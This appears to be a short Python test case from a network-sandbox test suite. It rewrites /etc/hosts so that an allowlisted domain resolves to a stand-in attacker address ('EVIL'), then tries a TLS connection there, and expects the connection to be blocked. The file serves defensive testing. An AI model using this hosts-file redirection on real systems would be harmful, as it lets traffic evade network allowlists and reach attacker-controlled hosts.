"""
how: an allowed name's address in hosts
expect: shut
unseen: a plain network would carry it, as it has a way there already
"""

from frames import rewritten
from hello import tls
from land import EVIL, good


def attempt(token):
    return rewritten("/etc/hosts", f"{EVIL} {good(token)}", lambda: tls(good(token), to=EVIL))
